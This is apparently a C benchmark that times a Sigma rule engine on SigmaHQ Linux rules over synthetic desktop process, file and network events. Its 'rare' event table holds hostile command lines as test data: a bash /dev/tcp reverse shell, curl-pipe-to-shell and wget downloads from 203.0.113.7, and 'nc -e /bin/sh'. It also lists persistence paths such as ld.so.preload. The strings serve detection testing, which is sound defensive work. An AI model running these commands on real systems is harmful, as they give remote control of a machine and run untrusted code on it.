/*
 * tests/bench/bench_sigma_eval.c - the Sigma engine (plugins/detector_sigma
 * engine.h) on one thread: every Linux rule of the SigmaHQ corpus
 * (RP_SIGMA_CORPUS: the whole tree is loaded, and only its Linux rules and
 * those without a product compile; they live in rules/linux and also in
 * rules-threat-hunting and rules-emerging-threats) plus the project's own ruleset
 * (config/rules/sigma, when it exists) evaluated on a realistic desktop
 * mix of exec, file and network events, most of which match nothing.
 *
 * In the same run, the same events go through an engine without rules
 * (the baseline: what reading an event costs) and through the same rules
 * with the index turned off (every rule of the event's type evaluated), so
 * the report shows what the rules cost and what the index saves. It also
 * gives how many rules the index lets through per event (p50, p95, max, as
 * a share of the loaded rules), the load time of the Linux rules (the
 * files whose logsource says product: linux, found before the clock starts)
 * and of the whole tree, and the RSS the Linux rules add.
 *
 * Usage: bench_sigma_eval OUTPUT.json. BENCH_SIGMA_EVENTS (environment)
 * sets the evaluations per run (default 400000) for a quick check. Figures
 * are medians of RUNS runs. Goals (issue 13): >= 250K events/s with every
 * rule, p95 <= 5 % of the rules evaluated, Linux rules loaded in <= 100 ms,
 * the whole tree in <= 2 s, <= 16 MB RSS for the Linux rules.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE /* nftw */
#endif
#include "bench_common.h"

#include "engine.h"

#include <rampart/plugin.h>

#include <ftw.h>

#ifndef RP_SIGMA_CORPUS
#define RP_SIGMA_CORPUS "/work/shared/corpus/sigma"
#endif

#define RUNS     5
#define DISTINCT 8192 /* distinct events, replayed in a loop */

/* ---- events ---- */

/* The fields an event may carry (ECS names, as the collectors fill them). */
static const char *const field_names[] = {
    "process.executable",
    "process.command_line",
    "process.parent.executable",
    "process.parent.command_line",
    "process.working_directory",
    "process.name",
    "process.pid",
    "user.name",
    "file.path",
    "file.name",
    "destination.ip",
    "destination.port",
    "network.direction",
    "network.transport",
    "source.ip",
    "source.port",
};
#define N_FIELDS (sizeof(field_names) / sizeof(field_names[0]))

struct ev {
    int type;
    const char *val[N_FIELDS]; /* NULL: absent */
    size_t len[N_FIELDS];
};

static struct ev events[DISTINCT];
static char pool[DISTINCT * 640];
static size_t pool_used;

static uint64_t rng = 0x853c49e6748fea9bull;

static uint32_t rnd(uint32_t n)
{
    rng ^= rng >> 12;
    rng ^= rng << 25;
    rng ^= rng >> 27;
    return (uint32_t)((rng * 2685821657736338717ull) >> 33) % n;
}

static void set(struct ev *e, unsigned f, const char *fmt, ...)
    __attribute__((format(printf, 3, 4)));
static void set(struct ev *e, unsigned f, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(pool + pool_used, sizeof(pool) - pool_used, fmt, ap);
    va_end(ap);
    if (n < 0 || (size_t)n >= sizeof(pool) - pool_used) {
        fprintf(stderr, "bench_sigma_eval: event pool full\n");
        exit(1);
    }
    e->val[f] = pool + pool_used;
    e->len[f] = (size_t)n;
    pool_used += (size_t)n + 1;
}

enum {
    F_EXE,
    F_CMD,
    F_PEXE,
    F_PCMD,
    F_CWD,
    F_PNAME,
    F_PID,
    F_USER,
    F_PATH,
    F_FNAME,
    F_DIP,
    F_DPORT,
    F_DIR,
    F_PROTO,
    F_SIP,
    F_SPORT
};

/* What a desktop runs: program, command line. */
static const char *const progs[][2] = {
    {"/usr/bin/ls", "ls --color=auto -la /home/anna/src"},
    {"/usr/bin/bash", "bash -c 'cd /home/anna/proj && make -j2'"},
    {"/usr/bin/git", "git status --porcelain=v1"},
    {"/usr/bin/git", "git -C /home/anna/proj fetch origin"},
    {"/usr/lib/firefox/firefox",
     "/usr/lib/firefox/firefox -contentproc -childID 12 -isForBrowser -prefsLen 31337 "
     "-parentBuildID 20240101 -appDir /usr/lib/firefox/browser 4211 true tab"},
    {"/usr/bin/python3", "python3 /home/anna/bin/sync_photos.py --quiet"},
    {"/usr/bin/python3", "/usr/bin/python3 -m pip list --outdated"},
    {"/usr/bin/grep", "grep -rn TODO src/"},
    {"/usr/bin/cat", "cat /proc/meminfo"},
    {"/usr/bin/sed", "sed -n 1,40p README.md"},
    {"/usr/bin/make", "make -j2 all"},
    {"/usr/bin/gcc", "gcc -O2 -Wall -c main.c -o build/main.o"},
    {"/usr/bin/ssh", "ssh -T git@github.com"},
    {"/usr/bin/code", "/usr/share/code/code --type=renderer --enable-crash-reporter"},
    {"/usr/bin/dbus-daemon", "dbus-daemon --session --address=systemd: --nofork"},
    {"/usr/bin/sh", "/bin/sh -c /usr/bin/lesspipe"},
    {"/usr/bin/dircolors", "dircolors -b"},
    {"/usr/bin/tar", "tar -czf /tmp/backup.tgz -C /home/anna Documents"},
    {"/usr/bin/node", "node /home/anna/proj/node_modules/.bin/eslint src"},
    {"/usr/bin/sudo", "sudo apt-get update"},
};
#define N_PROGS (sizeof(progs) / sizeof(progs[0]))

/* What an attacker (or an admin) runs now and then: these match rules. */
static const char *const rare[][2] = {
    {"/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"},
    {"/usr/bin/curl", "curl -s http://203.0.113.7/x.sh | sh"},
    {"/usr/bin/base64", "base64 -d /tmp/.x"},
    {"/usr/bin/chmod", "chmod +x /tmp/.cache/kworker"},
    {"/usr/bin/crontab", "crontab -l"},
    {"/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4444"},
    {"/usr/bin/wget", "wget -q http://203.0.113.7/a -O /dev/shm/a"},
    {"/usr/sbin/iptables", "iptables -F"},
};
#define N_RARE (sizeof(rare) / sizeof(rare[0]))

static const char *const parents[] = {
    "/usr/bin/bash", "/usr/bin/gnome-shell", "/usr/lib/systemd/systemd",
    "/usr/bin/code", "/usr/bin/make",        "/usr/bin/python3"};

static const char *const file_paths[] = {
    "/home/anna/.cache/mozilla/firefox/abc.default/cache2/entries/%08X",
    "/tmp/tmp.%08X/out.o",
    "/home/anna/src/proj/build/obj%u.o",
    "/home/anna/.config/Code/User/workspaceStorage/%08X/state.vscdb",
    "/home/anna/Documents/report-%u.odt",
    "/var/log/journal/%08X/system.journal",
    "/home/anna/.local/share/recently-used.xbel.%u",
};
static const char *const rare_paths[] = {"/etc/cron.d/%08X", "/home/anna/.ssh/authorized_keys",
                                         "/etc/ld.so.preload", "/tmp/%08X.sh"};

static void gen_events(void)
{
    static const int file_types[] = {DS_EV_FILE_CREATE, DS_EV_FILE_MODIFY, DS_EV_FILE_MODIFY,
                                     DS_EV_FILE_RENAME, DS_EV_FILE_DELETE};
    for (unsigned i = 0; i < DISTINCT; i++) {
        struct ev *e = &events[i];
        unsigned k = rnd(10);
        bool odd = rnd(100) == 0; /* one in a hundred looks like trouble */
        const char *exe = progs[rnd(N_PROGS)][0];
        if (k < 5) {
            e->type = DS_EV_PROCESS_EXEC;
            unsigned p = rnd(odd ? N_RARE : N_PROGS);
            const char *const *pc = odd ? rare[p] : progs[p];
            set(e, F_EXE, "%s", pc[0]);
            set(e, F_CMD, "%s", pc[1]);
            set(e, F_PNAME, "%s", strrchr(pc[0], '/') + 1);
            const char *par = parents[rnd(sizeof(parents) / sizeof(parents[0]))];
            set(e, F_PEXE, "%s", par);
            set(e, F_PCMD, "%s", strrchr(par, '/') + 1);
            set(e, F_CWD, "/home/anna/%s", rnd(2) ? "src/proj" : "");
            set(e, F_PID, "%u", 1000 + rnd(60000));
            set(e, F_USER, "%s", rnd(20) ? "anna" : "root");
        } else if (k < 8) {
            e->type = file_types[rnd(5)];
            const char *tpl = odd ? rare_paths[rnd(4)] : file_paths[rnd(7)];
            char path[256];
            snprintf(path, sizeof path, tpl, rnd(1u << 30));
            set(e, F_PATH, "%s", path);
            set(e, F_FNAME, "%s", strrchr(path, '/') + 1);
            set(e, F_EXE, "%s", exe);
            set(e, F_PNAME, "%s", strrchr(exe, '/') + 1);
            set(e, F_PID, "%u", 1000 + rnd(60000));
            set(e, F_USER, "anna");
        } else {
            bool out = rnd(10) != 0;
            e->type = out ? DS_EV_NETWORK_CONNECT : DS_EV_NETWORK_ACCEPT;
            static const unsigned ports[] = {443, 443, 443, 443, 80, 53, 22, 8080};
            set(e, F_DIP, "%u.%u.%u.%u", 1 + rnd(223), rnd(256), rnd(256), 1 + rnd(254));
            set(e, F_DPORT, "%u", odd ? 4444u : ports[rnd(8)]);
            set(e, F_SIP, "192.168.1.%u", 2 + rnd(200));
            set(e, F_SPORT, "%u", 32768 + rnd(28000));
            set(e, F_DIR, "%s", out ? "egress" : "ingress");
            set(e, F_PROTO, "tcp");
            set(e, F_EXE, "%s", rnd(2) ? "/usr/lib/firefox/firefox" : exe);
            set(e, F_PNAME, "%s", strrchr(e->val[F_EXE], '/') + 1);
            set(e, F_PID, "%u", 1000 + rnd(60000));
        }
    }
}

/* ---- the view: slots resolved to the event's fields once per engine ---- */

struct bview {
    const int *slot_field; /* slot -> index in field_names, or -1 */
    const struct ev *e;
};

static int bv_get(void *ctx, uint32_t slot, const char **v, size_t *len)
{
    const struct bview *b = ctx;
    int f = b->slot_field[slot];
    if (f < 0 || !b->e->val[f])
        return 0;
    *v = b->e->val[f];
    *len = b->e->len[f];
    return 1;
}

static int bv_str(void *ctx, uint32_t i, const char **v, size_t *len)
{
    const struct bview *b = ctx;
    for (unsigned f = 0; f < N_FIELDS; f++)
        if (b->e->val[f] && i-- == 0) {
            *v = b->e->val[f];
            *len = b->e->len[f];
            return 1;
        }
    return 0;
}

static int *resolve(const struct ds_engine *eng)
{
    uint32_t n = ds_engine_slot_count(eng);
    int *map = calloc(n ? n : 1, sizeof(*map));
    if (!map)
        bench_die("calloc");
    for (uint32_t s = 0; s < n; s++) {
        map[s] = -1;
        for (unsigned f = 0; f < N_FIELDS; f++)
            if (strcmp(ds_engine_slot_name(eng, s), field_names[f]) == 0)
                map[s] = (int)f;
    }
    return map;
}

/* ---- loading ---- */

/* What the collectors fill (their provides lists, the fields a rule can
 * name): process.exec, file.*, network.connect/accept. */
static int filled(void *ctx, int type, const char *field)
{
    (void)ctx;
    static const char *const proc[] = {"process.executable",
                                       "process.command_line",
                                       "process.parent.executable",
                                       "process.parent.command_line",
                                       "process.working_directory",
                                       "process.name",
                                       "process.pid",
                                       "process.parent.pid",
                                       "process.args",
                                       "user.name",
                                       "user.id",
                                       "process.hash.sha256",
                                       "container.id",
                                       NULL};
    static const char *const file[] = {"file.path",
                                       "file.name",
                                       "file.directory",
                                       "file.extension",
                                       "process.executable",
                                       "process.name",
                                       "process.pid",
                                       "user.name",
                                       "user.id",
                                       "collector_file.original.path",
                                       NULL};
    static const char *const net[] = {"destination.ip",
                                      "destination.port",
                                      "network.direction",
                                      "network.transport",
                                      "source.ip",
                                      "source.port",
                                      "process.executable",
                                      "process.name",
                                      "process.pid",
                                      "user.id",
                                      NULL};
    const char *const *l = type == DS_EV_PROCESS_EXEC                                      ? proc
                           : type == DS_EV_NETWORK_CONNECT || type == DS_EV_NETWORK_ACCEPT ? net
                                                                                           : file;
    for (size_t i = 0; l[i]; i++)
        if (strcmp(l[i], field) == 0)
            return 1;
    return 0;
}

static size_t rss_kib(void)
{
    char buf[128];
    if (bench_read_file("/proc/self/statm", buf, sizeof buf) <= 0)
        return 0;
    unsigned long size = 0, res = 0;
    if (sscanf(buf, "%lu %lu", &size, &res) != 2)
        return 0;
    return (size_t)res * (size_t)sysconf(_SC_PAGESIZE) / 1024;
}

static bool is_dir(const char *p)
{
    struct stat st;
    return stat(p, &st) == 0 && S_ISDIR(st.st_mode);
}

/* An engine over the given folders (those that exist). */
static struct ds_engine *load(const char *const *dirs, size_t n, bool no_index, double *ms)
{
    struct ds_engine_opts o = {.filled = filled, .no_index = no_index};
    struct ds_engine *eng;
    int64_t t0 = bench_now_ns();
    if (ds_engine_create(&o, &eng) != 0)
        bench_die("ds_engine_create");
    for (size_t i = 0; i < n; i++) {
        char err[512];
        if (dirs[i] && is_dir(dirs[i]) &&
            ds_engine_add_dir(eng, dirs[i], NULL, NULL, NULL, err, sizeof err) != 0) {
            fprintf(stderr, "bench_sigma_eval: %s\n", err);
            exit(1);
        }
    }
    if (ds_engine_build(eng) != 0)
        bench_die("ds_engine_build");
    if (ms)
        *ms = (double)(bench_now_ns() - t0) / 1e6;
    return eng;
}

/* The corpus files whose text names product linux: the Linux rules, wherever
 * the tree keeps them. Found by a plain text search before any clock runs;
 * the engine then reads and parses them as it would any file. */
static char **linux_files;
static size_t n_linux_files, cap_linux_files;

static int find_linux(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
    (void)ftw;
    size_t n = strlen(path);
    if (type != FTW_F || !S_ISREG(st->st_mode) || st->st_size > (1 << 20) ||
        !((n > 4 && strcmp(path + n - 4, ".yml") == 0) ||
          (n > 5 && strcmp(path + n - 5, ".yaml") == 0)))
        return 0;
    FILE *f = fopen(path, "r");
    if (!f)
        return 0;
    char line[512];
    bool hit = false;
    while (!hit && fgets(line, sizeof line, f)) {
        const char *t = line + strspn(line, " \t");
        hit = strncmp(t, "product: linux", 14) == 0;
    }
    fclose(f);
    if (!hit)
        return 0;
    if (n_linux_files == cap_linux_files) {
        cap_linux_files = cap_linux_files ? 2 * cap_linux_files : 256;
        linux_files = realloc(linux_files, cap_linux_files * sizeof *linux_files);
        if (!linux_files)
            bench_die("realloc");
    }
    if (!(linux_files[n_linux_files++] = strdup(path)))
        bench_die("strdup");
    return 0;
}

static int cmp_str(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

/* An engine over the Linux rule files, timed from the first read to the
 * built index. */
static struct ds_engine *load_linux(double *ms)
{
    struct ds_engine_opts o = {.filled = filled};
    struct ds_engine *eng;
    int64_t t0 = bench_now_ns();
    if (ds_engine_create(&o, &eng) != 0)
        bench_die("ds_engine_create");
    for (size_t i = 0; i < n_linux_files; i++)
        if (ds_engine_add_file(eng, linux_files[i], NULL, NULL, NULL) != 0)
            bench_die("ds_engine_add_file");
    if (ds_engine_build(eng) != 0)
        bench_die("ds_engine_build");
    *ms = (double)(bench_now_ns() - t0) / 1e6;
    return eng;
}

static uint32_t live_rules(const struct ds_engine *eng)
{
    uint32_t n = 0;
    for (uint32_t i = 0; i < ds_engine_rule_count(eng); i++)
        n += !ds_crule_dead(ds_engine_rule_at(eng, i));
    return n;
}

/* ---- running ---- */

static volatile uint64_t sink;

/* ns per event over count evaluations of the distinct events in turn. */
static double run(struct ds_engine *eng, const int *map, unsigned long count)
{
    struct bview b = {.slot_field = map};
    struct ds_view v = {.get = bv_get, .string_at = bv_str, .ctx = &b};
    struct ds_eval_stats st;
    uint64_t matched = 0;
    int64_t t0 = bench_now_ns();
    for (unsigned long i = 0; i < count; i++) {
        b.e = &events[i % DISTINCT];
        ds_engine_eval(eng, b.e->type, &v, NULL, NULL, &st);
        matched += st.matched;
    }
    int64_t t1 = bench_now_ns();
    sink += matched;
    return (double)(t1 - t0) / (double)count;
}

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: %s OUTPUT.json\n", argv[0]);
        return 2;
    }
    unsigned long count = 400000;
    const char *env = getenv("BENCH_SIGMA_EVENTS");
    if (env && *env) {
        char *end;
        unsigned long n = strtoul(env, &end, 10);
        if (*end || n == 0) {
            fprintf(stderr, "bench_sigma_eval: BENCH_SIGMA_EVENTS=%s, expected a count\n", env);
            return 2;
        }
        count = n;
    }
    const char *corpus = getenv("RP_SIGMA_CORPUS");
    if (!corpus || !*corpus)
        corpus = RP_SIGMA_CORPUS;
    char own_dir[1024];
    snprintf(own_dir, sizeof own_dir, "%s/config/rules/sigma", RP_SOURCE_DIR);
    bool has_corpus = is_dir(corpus), has_own = is_dir(own_dir);
    if (has_corpus && nftw(corpus, find_linux, 16, FTW_PHYS) != 0)
        bench_die("nftw");
    if (n_linux_files)
        qsort(linux_files, n_linux_files, sizeof *linux_files, cmp_str);
    double load_before = bench_load1();
    double capacity = bench_cpu_capacity(200);
    gen_events();

    /* Load figures first, on a fresh heap: the Linux rules alone. */
    size_t rss0 = rss_kib();
    double linux_ms = 0;
    struct ds_engine *lnx = load_linux(&linux_ms);
    size_t rss_added = rss_kib() - rss0;
    size_t linux_mem = ds_engine_memory(lnx);
    uint32_t linux_rules = ds_engine_rule_count(lnx);
    ds_engine_destroy(lnx);
    double tree_ms = 0;
    size_t tree_mem = 0;
    uint32_t tree_rules = 0;
    if (has_corpus) {
        const char *tree[] = {corpus};
        struct ds_engine *all = load(tree, 1, false, &tree_ms);
        tree_mem = ds_engine_memory(all);
        tree_rules = ds_engine_rule_count(all);
        ds_engine_destroy(all);
    }

    const char *dirs[] = {has_corpus ? corpus : NULL, own_dir};
    struct ds_engine *ix = load(dirs, 2, false, NULL), *full = load(dirs, 2, true, NULL);
    struct ds_engine *none = load(NULL, 0, false, NULL);
    int *map_ix = resolve(ix), *map_full = resolve(full), *map_none = resolve(none);
    uint32_t live = live_rules(ix);

    /* Candidates per event through the index, and the same matches with
     * and without it. */
    static double cand_pct[DISTINCT];
    unsigned long matches = 0, mismatches = 0;
    {
        struct bview b1 = {.slot_field = map_ix}, b2 = {.slot_field = map_full};
        struct ds_view v1 = {.get = bv_get, .string_at = bv_str, .ctx = &b1};
        struct ds_view v2 = {.get = bv_get, .string_at = bv_str, .ctx = &b2};
        for (unsigned i = 0; i < DISTINCT; i++) {
            struct ds_eval_stats s1, s2;
            b1.e = b2.e = &events[i];
            ds_engine_eval(ix, events[i].type, &v1, NULL, NULL, &s1);
            ds_engine_eval(full, events[i].type, &v2, NULL, NULL, &s2);
            cand_pct[i] = live ? 100.0 * s1.candidates / live : 0;
            matches += s1.matched;
            mismatches += s1.matched != s2.matched;
        }
    }
    double p50 = bench_quantile(cand_pct, DISTINCT, 0.50);
    double p95 = bench_quantile(cand_pct, DISTINCT, 0.95);
    double pmax = cand_pct[DISTINCT - 1];

    double t_ix[RUNS], t_full[RUNS], t_none[RUNS];
    for (int r = 0; r < RUNS; r++) {
        t_none[r] = run(none, map_none, count);
        t_ix[r] = run(ix, map_ix, count);
        t_full[r] = run(full, map_full, count);
    }
    double ns_ix = bench_median(t_ix, RUNS), ns_full = bench_median(t_full, RUNS),
           ns_none = bench_median(t_none, RUNS);

    bench_json j;
    bench_json_begin(&j);
    bench_json_str(&j, "bench", "sigma_eval");
    bench_json_int(&j, "cpus", bench_cpus());
    bench_json_num(&j, "cpu_capacity", capacity);
    bench_json_num(&j, "load1_before", load_before);
    bench_json_num(&j, "load1_after", bench_load1());
    bench_json_str(&j, "corpus", has_corpus ? corpus : "absent");
    bench_json_int(&j, "linux_rule_files", (long long)n_linux_files);
    bench_json_str(&j, "own_ruleset", has_own ? own_dir : "absent");
    bench_json_int(&j, "rules", ds_engine_rule_count(ix));
    bench_json_int(&j, "rules_live", live);
    bench_json_int(&j, "distinct_events", DISTINCT);
    bench_json_int(&j, "events_per_run", (long long)count);
    bench_json_int(&j, "runs", RUNS);
    bench_json_num(&j, "matches_per_1000_events", 1000.0 * (double)matches / DISTINCT);
    bench_json_int(&j, "results_differ_without_index", (long long)mismatches);
    bench_json_num(&j, "with_rules_ns_per_event", ns_ix);
    bench_json_num(&j, "with_rules_events_s", 1e9 / ns_ix);
    bench_json_num(&j, "baseline_ns_per_event", ns_none);
    bench_json_num(&j, "baseline_events_s", 1e9 / ns_none);
    bench_json_num(&j, "no_index_ns_per_event", ns_full);
    bench_json_num(&j, "no_index_events_s", 1e9 / ns_full);
    bench_json_num(&j, "index_speedup", ns_full / ns_ix);
    bench_json_array(&j, "with_rules_ns_runs", t_ix, RUNS);
    bench_json_array(&j, "no_index_ns_runs", t_full, RUNS);
    bench_json_num(&j, "candidates_p50_pct", p50);
    bench_json_num(&j, "candidates_p95_pct", p95);
    bench_json_num(&j, "candidates_max_pct", pmax);
    bench_json_int(&j, "linux_rules", linux_rules);
    bench_json_num(&j, "linux_load_ms", linux_ms);
    bench_json_int(&j, "linux_engine_kib", (long long)(linux_mem / 1024));
    bench_json_int(&j, "linux_rss_added_kib", (long long)rss_added);
    bench_json_int(&j, "tree_rules", tree_rules);
    bench_json_num(&j, "tree_load_ms", tree_ms);
    bench_json_int(&j, "tree_engine_kib", (long long)(tree_mem / 1024));
    bench_json_str(&j, "goals",
                   ">= 250000 events/s with rules; p95 <= 5 % of rules; Linux load "
                   "<= 100 ms; tree <= 2000 ms; Linux RSS <= 16384 KiB");
    int rc = bench_json_finish(&j, argv[1]);
    free(map_ix);
    free(map_full);
    free(map_none);
    ds_engine_destroy(ix);
    ds_engine_destroy(full);
    ds_engine_destroy(none);
    return rc;
}
